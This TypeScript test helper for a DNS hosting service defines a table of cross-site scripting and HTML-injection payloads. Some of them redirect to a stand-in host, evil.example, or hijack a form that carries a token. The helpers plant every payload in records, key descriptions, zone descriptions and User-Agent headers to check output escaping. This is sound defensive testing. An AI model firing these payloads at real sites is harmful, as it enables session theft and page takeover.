import type { Service } from '../e2e/processes.ts'
import { send, signIn } from './sign-in.ts'

/** What a payload sets in the page if it runs. */
export const RAN = 'ran'

/** Texts that are more than text where a page does not escape them. */
// biome-ignore format: a table
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script':               `<script>${RAN}=1</script>`,
  'an image':               `<img src=x onerror=${RAN}=1>`,
  'the end of a value':     `"><svg onload=${RAN}=1>`,
  'the end in apostrophes': `'><svg/onload=${RAN}=1>`,
  'an attribute':           `" onfocus=${RAN}=1 autofocus x="`,
  'backquotes':             `\`onmouseover=${RAN}=1 autofocus onfocus=${RAN}=1\``,
  'the end of elements':    `</textarea></title></select></style></bdi></code><script>${RAN}=1</script>`,
  'a comment':              `<!--><img src=x onerror=${RAN}=1>--!>`,
  'an address':             `javascript:${RAN}=1`,
  'an address of data':     `data:text/html,<script>parent.${RAN}=1</script>`,
  'another page':           `<iframe src="https://evil.example/"></iframe><link rel=stylesheet href=//evil.example/x>`,
  'another place':          `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">`,
  'MathML in a table':      `<table><math><mtext><mglyph><style><img src=x onerror=${RAN}=1>`,
  'a template':             `\${${RAN}=1}{{${RAN}=1}}<%=${RAN}=1%>#{${RAN}=1}$&$1$\``,
  'entities':               `&lt;img src=x onerror=${RAN}=1&gt;&#60;script&#62;${RAN}=1&#60;/script&#62;`,
  'the place of a token':   `<input type="hidden" name="token" value="">`,
  'another form':           `</form><form action="https://evil.example/"><input name="token">`,
  'an element of a script': `<div id="live" data-from="https://evil.example/"></div><a id="errors" href="#">x</a>`,
  'from right to left':     `\u202e<img src=x onerror=${RAN}=1>\u202c \u2066\u2069`,
  'control characters':     `\u0001\u0008\u001b[31m\u007f\u0085\u2028<img src=x onerror=${RAN}=1>`,
}

/** Where one payload was put, and what the service stored. */
export interface Planted {
  readonly zone: string
  readonly hostname: string
  readonly username: string
  readonly value: string
  readonly caa: string
  readonly agent: string
  readonly description: string
}

type Json = Readonly<Record<string, unknown>>

/** A request to `/v1` that has to succeed. */
export async function ask<T = unknown>(at: Service, method: string, path: string, body?: Json): Promise<T> {
  const answer = await fetch(`${at.url}/v1${path}`, {
    method,
    headers: {
      authorization: `Bearer ${at.apiKey}`,
      ...(body !== undefined && { 'content-type': 'application/json' }),
    },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  })
  const text = await answer.text()
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${text}`)
  return (JSON.parse(text) as { readonly data: T }).data
}

/** A character-string (RFC 1035 §5.1); UTF-8 is what programs send. */
export const quoted = (text: string): string => `"${text.replaceAll(/["\\]/g, '\\$&')}"`

/** HTTP has no control characters but those of Latin-1 (RFC 9110 §5.5): what is beyond is sent as UTF-8. */
const agentOf = (text: string): string =>
  Buffer.from(text.replaceAll(/[\0-\x1f\x7f]/g, ''), 'utf8').toString('latin1')

interface StoredName {
  readonly rrsets: readonly {
    readonly dns_type: string
    readonly rdata: readonly { readonly value: string }[]
  }[]
  readonly last_update: { readonly user_agent: string }
}

const NAMES = '/dns/records/example.test'

/** A name with these texts in its records. */
export const plantRecords = async (at: Service, name: string, texts: readonly string[]): Promise<unknown> =>
  ask(at, 'POST', NAMES, {
    name,
    rrsets: [
      { dns_type: 'TXT', rdata: texts.map((text) => ({ value: quoted(text) })) },
      { dns_type: 'CAA', rdata: texts.map((text) => ({ value: `0 issue ${quoted(text)}` })) },
    ],
  })

interface UpdatedName {
  readonly username: string
  readonly password: string
  readonly hostname: string
}

/** The reply to an update by a program whose name is this payload. */
export async function hostileUpdate(
  { url }: Service,
  { username, password, hostname }: UpdatedName,
  payload: string,
): Promise<string> {
  const credentials = Buffer.from(`${username}:${password}`).toString('base64')
  const { text } = await send(`${url}/nic/update?hostname=${hostname}&myip=192.0.2.77`, {
    headers: { authorization: `Basic ${credentials}`, 'user-agent': agentOf(payload) },
  })
  return text
}

/** Puts a payload everywhere where someone may choose a text. */
export async function plant(at: Service, payload: string, nth: number): Promise<Planted> {
  const [label, zone] = [`h${nth}`, `z${nth}.test`]
  const hostname = `${label}.example.test`
  await plantRecords(at, label, [payload])
  const key = await ask<{ readonly username: string; readonly password: string }>(
    at,
    'POST',
    '/account/ddns-keys',
    { description: payload, hostnames: [hostname] },
  )
  const text = await hostileUpdate(at, { ...key, hostname }, payload)
  if (!text.startsWith('good ')) throw new Error(`${payload}: ${text}`)
  await signIn(at.url, { key: at.apiKey }, agentOf(payload))
  await ask(at, 'POST', '/account/api-keys', { description: payload, scopes: ['read'] })
  await ask(at, 'POST', '/account/tsig-keys', { description: payload, scopes: ['read'] })
  await ask(at, 'POST', '/dns/zones', { zone_name: zone })
  await ask(at, 'PATCH', `/dns/zones/${zone}`, { description: payload })
  const name = await ask<StoredName>(at, 'GET', `${NAMES}/${label}`)
  const { description } = await ask<{ readonly description: string }>(at, 'GET', `/dns/zones/${zone}`)
  const valueOf = (type: string): string =>
    name.rrsets.find(({ dns_type }) => dns_type === type)?.rdata[0]?.value ?? ''
  return {
    zone,
    hostname,
    username: key.username,
    value: valueOf('TXT'),
    caa: valueOf('CAA'),
    agent: name.last_update.user_agent,
    description,
  }
}
